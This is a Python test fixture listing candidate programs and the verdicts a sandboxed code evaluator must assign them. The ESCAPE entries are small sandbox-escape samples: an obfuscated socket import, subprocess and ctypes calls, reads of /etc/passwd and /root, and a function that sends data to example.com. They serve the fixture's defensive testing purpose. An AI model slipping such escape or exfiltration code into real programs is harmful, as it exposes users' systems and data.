"""Candidate programs of every verdict, as a model might write them, with the
verdict each must get. Shared by the in-process and the cluster tests."""

from ray_eval import Candidate, Verdict

ADD_TESTS = ("assert add(1, 2) == 3", "assert add(-1, 1) == 0", "assert add(10, 5) == 15")
FIB_TESTS = ("assert fib(0) == 0", "assert fib(1) == 1", "assert fib(10) == 55", "assert fib(40) == 102334155")

# (id, program, tests, expected verdict, tests passed)
CATALOG = [
    ("add", "def add(a, b):\n    return a + b\n", ADD_TESTS, Verdict.PASS, 3),
    (
        "fib",
        "def fib(n):\n    a, b = 0, 1\n    for _ in range(n):\n        a, b = b, a + b\n    return a\n",
        FIB_TESTS,
        Verdict.PASS,
        4,
    ),
    # A refused import the program handles is no escape: nothing reached out.
    (
        "handled-refusal",
        "try:\n    import socket\nexcept ImportError:\n    socket = None\ndef add(a, b):\n    return a + b\n",
        ADD_TESTS,
        Verdict.PASS,
        3,
    ),
    ("add-subtracts", "def add(a, b):\n    return a - b\n", ADD_TESTS, Verdict.WRONG, 0),
    ("add-off-by-one", "def add(a, b):\n    return a + b + (a < 0)\n", ADD_TESTS, Verdict.WRONG, 1),
    (
        "fib-recursive-slow",
        "def fib(n):\n    return n if n < 2 else fib(n - 1) + fib(n - 2)\n",
        FIB_TESTS,
        Verdict.TIMEOUT,
        3,
    ),
    ("loops-at-load", "while True:\n    pass\n", ADD_TESTS, Verdict.TIMEOUT, 0),
    ("hoards-memory", "def add(a, b):\n    return len(bytearray(1 << 30)) + a + b\n", ADD_TESTS, Verdict.MEMORY, 0),
    (
        "leaks-memory",
        "cache = []\ndef add(a, b):\n    while True:\n        cache.append(bytearray(1 << 20))\n",
        ADD_TESTS,
        Verdict.MEMORY,
        0,
    ),
    ("divides-by-zero", "def add(a, b):\n    return (a + b) // (a - 1)\n", ADD_TESTS, Verdict.ERROR, 0),
    ("syntax-error", "def add(a, b)\n    return a + b\n", ADD_TESTS, Verdict.ERROR, 0),
    ("no-numpy", "import numpy\ndef add(a, b):\n    return numpy.add(a, b)\n", ADD_TESTS, Verdict.ERROR, 0),
    ("asserts-at-load", "assert False, 'not ready'\n", ADD_TESTS, Verdict.ERROR, 0),
    ("floods-output", "def add(a, b):\n    while True:\n        print('x' * 1000)\n", ADD_TESTS, Verdict.ERROR, 0),
    ("recurses-forever", "def add(a, b):\n    return add(a, b)\n", ADD_TESTS, Verdict.ERROR, 0),
    ("exits", "import sys\nsys.exit(1)\n", ADD_TESTS, Verdict.ERROR, 0),
    ("imports-socket", "import socket\ndef add(a, b):\n    return a + b\n", ADD_TESTS, Verdict.ESCAPE, 0),
    (
        "shells-out",
        "def add(a, b):\n    import subprocess\n    return int(subprocess.check_output(['expr', str(a), '+', str(b)]))",
        ADD_TESTS,
        Verdict.ESCAPE,
        0,
    ),
    ("hides-import", "s = __import__('so' + 'cket')\n", ADD_TESTS, Verdict.ESCAPE, 0),
    ("ctypes", "import ctypes\nlibc = ctypes.CDLL(None)\n", ADD_TESTS, Verdict.ESCAPE, 0),
    ("reads-passwd", "users = open('/etc/passwd').read()\n", ADD_TESTS, Verdict.ESCAPE, 0),
    ("lists-root", "import os\nprint(os.listdir('/root'))\n", ADD_TESTS, Verdict.ESCAPE, 0),
    (
        "writes-file",
        "def add(a, b):\n    with open('/tmp/pwned', 'w') as f:\n        f.write('x')\n    return a + b\n",
        ADD_TESTS,
        Verdict.ESCAPE,
        0,
    ),
    (
        "phones-home",
        "from host import fetch\ndef add(a, b):\n    fetch('http://example.com/?' + str(a))\n    return a + b\n",
        ADD_TESTS,
        Verdict.ESCAPE,
        0,
    ),
]


def catalog(copies: int = 1) -> list[tuple[Candidate, Verdict, int]]:
    """Each catalog entry ``copies`` times, with distinct ids."""
    out = []
    for copy in range(copies):
        for name, program, tests, verdict, passed in CATALOG:
            out.append((Candidate(f"{name}#{copy}", program, tests), verdict, passed))
    return out
